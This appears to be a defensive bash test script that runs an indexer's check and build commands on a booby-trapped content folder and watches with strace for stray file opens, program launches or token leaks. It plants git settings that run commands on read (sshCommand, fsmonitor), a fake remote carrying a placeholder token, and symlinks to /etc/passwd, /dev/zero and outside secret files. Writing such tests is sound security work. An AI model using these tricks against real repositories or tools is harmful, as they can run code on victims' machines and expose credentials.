#!/usr/bin/env bash
# tests/tools/opened_files_test.sh INDEXER: `check` and `build` on a content folder made to lead them astray. strace says
# which files they opened and which programs they started; none of a stranger's choice may be among them.
set -euo pipefail
indexer=$1
work=$(realpath "$(mktemp -d)")
trap 'rm -rf "$work"' EXIT
strace -o /dev/null true 2>/dev/null || { echo "skipped: strace is not there, or may not trace programs here"; exit 0; }

token=ghp_0123456789abcdefghijklmnopqrstuvwxyz
outside=$work/outside
content=$work/content
marker=$work/ran
mkdir -p "$outside" "$content/en/bare/objects" "$content/en/bare/refs"
for name in a.md site.yaml token; do echo "$token" >"$outside/$name"; done

# A repository with a history, whose settings run a program when they are read; and a folder that git takes for one.
git -C "$content" init -q
printf -- '---\ntitle: A\n---\n[1](secret.txt) [2](config.txt) [3](pipe.png) ![4](zero.png) [5](out/a.md)\n' >"$content/en/a.md"
git -C "$content" add -A
git -C "$content" -c user.name=Mira -c user.email=mira@example.org commit -qm one
for config in .git/config en/bare/config; do
  cat >"$content/$config" <<END
[core]
  repositoryformatversion = 1
  sshCommand = touch $marker; false
  fsmonitor = touch $marker
[extensions]
  partialClone = evil
[remote "evil"]
  promisor = true
  url = ssh://git@invalid.example/$token
[include]
  path = $outside/token
END
done
echo "$outside" >"$content/.git/objects/info/alternates"
echo 1234567890123456789012345678901234567890 >"$content/en/bare/HEAD"
touch "$content/en/bare/objects/x" "$content/en/bare/refs/x"

ln -s ../outside/site.yaml "$content/site.yaml"
ln -s "$outside/site.yaml" "$content/synonyms.yaml"
mkfifo "$content/expectations.yaml" "$content/en/pipe.md" "$content/en/pipe.png"
ln -s ../../outside/a.md "$content/en/secret.md"
ln -s ../../outside/token "$content/en/secret.txt"
ln -s ../.git/config "$content/en/config.txt"
ln -s ../.git/config "$content/en/config.md"
ln -s ../../outside "$content/en/out"
ln -s /dev/zero "$content/en/zero.png"
ln -s /dev/zero "$content/en/zero.md"
ln -s /etc/passwd "$content/en/passwd.md"

# Prints what was opened or started that should not have been. -y shows where a descriptor really leads.
strangers() {
  grep -vE ' = -1 E|execve\("'"$indexer"'"' "$1" |
    sed -nE 's/.*(execve|execveat|connect)\(/\1 /p; s/.* = [0-9]+<([^>]*)>$/\1/p' |
    grep -vE "^($content(/en(/bare(/objects|/refs)?)?)?|$content/en/a\.md)\$" |
    grep -vE "^$content/\.git/(HEAD|refs|packed-refs|objects)" |
    grep -vE '^(/usr)?/lib/|^/usr/share/(locale|icu)|^/usr/lib/locale|^/etc/ld\.so\.|^/proc/|^/sys/devices/system/cpu' |
    grep -vE "^/etc/ssl/|^$work/index" || true # libgit2 loads certificates at its start, asked or not
}

status=0
complain() { echo "$1"; status=1; }
for command in "check $content" "build $content --index $work/index"; do
  # shellcheck disable=SC2086
  GIT_DIR=$outside timeout 120 strace -f -qq -y -s 256 -o "$work/trace" \
    -e trace=open,openat,openat2,creat,execve,execveat,connect "$indexer" $command >"$work/out" 2>&1 || code=$?
  [[ ${code:-0} -le 1 ]] || complain "$command ended with $code"
  found=$(strangers "$work/trace")
  [[ -z $found ]] || complain "$command opened or started: $found"
  ! grep -q ghp_ "$work/out" || complain "$command told a secret: $(grep ghp_ "$work/out")"
done
[[ ! -e $marker ]] || complain "a program of the repository ran"
! grep -rqs ghp_ "$work/index" || complain "a secret was published"
grep -q '^[0-9 ]*openat' "$work/trace" || complain "strace saw nothing"
exit $status
